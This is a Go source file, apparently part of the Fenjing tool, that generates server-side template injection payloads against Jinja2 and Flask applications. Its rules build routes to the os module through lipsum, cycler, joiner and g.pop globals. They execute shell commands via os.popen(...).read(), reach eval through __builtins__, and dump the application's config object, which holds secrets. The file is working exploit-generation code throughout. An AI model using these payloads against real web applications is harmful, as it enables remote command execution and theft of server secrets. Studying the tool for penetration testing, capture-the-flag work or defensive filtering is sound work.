package rules

import (
	"strings"

	"github.com/fuucckk/Fenjing/pkg/grammar"
)

// Routes to the os module. Engine globals (lipsum, cycler, joiner) carry
// function objects whose __globals__ dictionary holds the engine module's
// imports, os among them. The framework flavor adds g.pop as one more
// function to walk the same way.

func globalsRoute(root string, fn ...string) *grammar.Requirement {
	steps := make([]grammar.AccessStep, 0, len(fn)+2)
	for _, f := range fn {
		steps = append(steps, grammar.Attr(f))
	}
	steps = append(steps, grammar.Attr("__globals__"), grammar.Index("os"))
	return grammar.Chain(grammar.Variable(root), steps...)
}

func genOSViaLipsum(ctx *Context, req *grammar.Requirement) []grammar.Candidate {
	return []grammar.Candidate{grammar.Delegate(globalsRoute("lipsum"))}
}

func genOSViaCycler(ctx *Context, req *grammar.Requirement) []grammar.Candidate {
	return []grammar.Candidate{grammar.Delegate(globalsRoute("cycler", "__init__"))}
}

func genOSViaJoiner(ctx *Context, req *grammar.Requirement) []grammar.Candidate {
	return []grammar.Candidate{grammar.Delegate(globalsRoute("joiner", "__init__"))}
}

func genOSViaFlaskG(ctx *Context, req *grammar.Requirement) []grammar.Candidate {
	return []grammar.Candidate{grammar.Delegate(globalsRoute("g", "pop"))}
}

// python2 function objects expose func_globals instead of __globals__.
func genOSViaFuncGlobals(ctx *Context, req *grammar.Requirement) []grammar.Candidate {
	route := grammar.Chain(grammar.Variable("cycler"),
		grammar.Attr("__init__"),
		grammar.Attr("func_globals"),
		grammar.Index("os"),
	)
	return []grammar.Candidate{grammar.Delegate(route)}
}

// genPopenRead lowers command execution to os.popen(cmd).read().
func genPopenRead(ctx *Context, req *grammar.Requirement) []grammar.Candidate {
	popen := grammar.Call(grammar.Attribute(grammar.OSModule(), "popen"), grammar.String(req.Name))
	read := grammar.Call(grammar.Attribute(popen, "read"))
	return []grammar.Candidate{grammar.Delegate(read)}
}

// genPopenReadViaEval reaches the same effect through the eval goal, for
// targets where every direct os-module route is filtered but an eval
// primitive still resolves.
func genPopenReadViaEval(ctx *Context, req *grammar.Requirement) []grammar.Candidate {
	code := "__import__('os').popen(" + pyRepr(req.Name) + ").read()"
	return []grammar.Candidate{grammar.Delegate(grammar.EvalCode(code))}
}

// builtinsEval builds ROOT...__globals__['__builtins__']['eval'](code).
func builtinsEval(root string, code string, fn ...string) *grammar.Requirement {
	steps := make([]grammar.AccessStep, 0, len(fn)+3)
	for _, f := range fn {
		steps = append(steps, grammar.Attr(f))
	}
	steps = append(steps,
		grammar.Attr("__globals__"),
		grammar.Index("__builtins__"),
		grammar.Index("eval"),
	)
	evalFn := grammar.Chain(grammar.Variable(root), steps...)
	return grammar.Call(evalFn, grammar.String(code))
}

func genEvalViaLipsum(ctx *Context, req *grammar.Requirement) []grammar.Candidate {
	return []grammar.Candidate{grammar.Delegate(builtinsEval("lipsum", req.Name))}
}

func genEvalViaCycler(ctx *Context, req *grammar.Requirement) []grammar.Candidate {
	return []grammar.Candidate{grammar.Delegate(builtinsEval("cycler", req.Name, "__init__"))}
}

func genEvalViaFuncGlobals(ctx *Context, req *grammar.Requirement) []grammar.Candidate {
	evalFn := grammar.Chain(grammar.Variable("cycler"),
		grammar.Attr("__init__"),
		grammar.Attr("func_globals"),
		grammar.Index("__builtins__"),
		grammar.Index("eval"),
	)
	return []grammar.Candidate{grammar.Delegate(grammar.Call(evalFn, grammar.String(req.Name)))}
}

// genConfigFlaskVar dumps the framework configuration object directly.
func genConfigFlaskVar(ctx *Context, req *grammar.Requirement) []grammar.Candidate {
	return []grammar.Candidate{grammar.Delegate(grammar.Variable("config"))}
}

// genConfigTemplateSelf walks from the template's own namespace to the
// render context and its config entry, which works without framework
// globals when the engine injects one.
func genConfigTemplateSelf(ctx *Context, req *grammar.Requirement) []grammar.Candidate {
	route := grammar.Chain(grammar.Variable("self"),
		grammar.Attr("__dict__"),
		grammar.Index("_TemplateReference__context"),
		grammar.Index("config"),
	)
	return []grammar.Candidate{grammar.Delegate(route)}
}

// pyRepr quotes s as a python single-quoted string literal.
func pyRepr(s string) string {
	var b strings.Builder
	b.WriteByte('\'')
	for _, r := range s {
		switch r {
		case '\\':
			b.WriteString(`\\`)
		case '\'':
			b.WriteString(`\'`)
		case '\n':
			b.WriteString(`\n`)
		case '\r':
			b.WriteString(`\r`)
		case '\t':
			b.WriteString(`\t`)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('\'')
	return b.String()
}
